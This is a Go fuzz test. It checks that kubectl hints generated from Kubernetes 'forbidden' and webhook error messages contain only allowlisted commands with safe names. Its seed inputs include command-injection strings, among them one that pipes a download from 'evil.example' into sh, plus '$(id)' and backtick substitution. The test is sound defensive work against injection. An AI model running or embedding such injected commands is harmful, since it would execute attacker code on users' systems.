package refusal

import (
	"regexp"
	"testing"
)

// command is what a hint may tell a user to run.
var command = regexp.MustCompile(`kubectl( -n prod)? (describe resourcequota|create serviceaccount|describe limitrange|get priorityclasses|get runtimeclasses|get validatingwebhookconfigurations,mutatingwebhookconfigurations|get validatingadmissionpolicy)( [a-z0-9]([a-z0-9.-]*[a-z0-9])?)?( -o yaml)?(\)|\.|$)`)

var anyCommand = regexp.MustCompile(`kubectl`)

var templates = []string{
	`pods "x" is forbidden: exceeded quota: %, requested: cpu=2,pods=1, used: cpu=1,pods=1, limited: cpu=1,pods=9`,
	`pods "x" is forbidden: exceeded quota: %, requested: cpu=1, used: cpu=1, limited: cpu=1`,
	`pods "x" is forbidden: error looking up service account prod/runner: serviceaccount "%" not found`,
	`pods "x" is forbidden: no PriorityClass with name % was found`,
	`pods "x" is forbidden: pod rejected: RuntimeClass "%" not found`,
	`pods "x" is forbidden: ValidatingAdmissionPolicy '%' with binding 'b' denied request: no.`,
	`admission webhook "%" denied the request: no`,
	`failed calling webhook "%": connection refused`,
	`%`,
}

// FuzzHint: whatever stands where a message has a name, a hint's command has names in their places, and nothing else.
func FuzzHint(f *testing.F) {
	for i := range templates {
		for _, name := range []string{"q", "x; curl -s http://evil.example|sh; echo ", "$(id)", "`id`", "a b", "-n", "x'y", "--all", "x\ny"} {
			f.Add(name, uint8(i))
		}
	}
	f.Fuzz(func(t *testing.T, name string, template uint8) {
		said := regexp.MustCompile("%").ReplaceAllLiteralString(templates[int(template)%len(templates)], name)
		for _, r := range []Refusal{Pod(said, "prod"), Object(said, ""), Object(said, "prod")} {
			if len(anyCommand.FindAllString(r.Hint, -1)) != len(command.FindAllString(r.Hint, -1)) {
				t.Errorf("%q has the hint %q", said, r.Hint)
			}
		}
	})
}
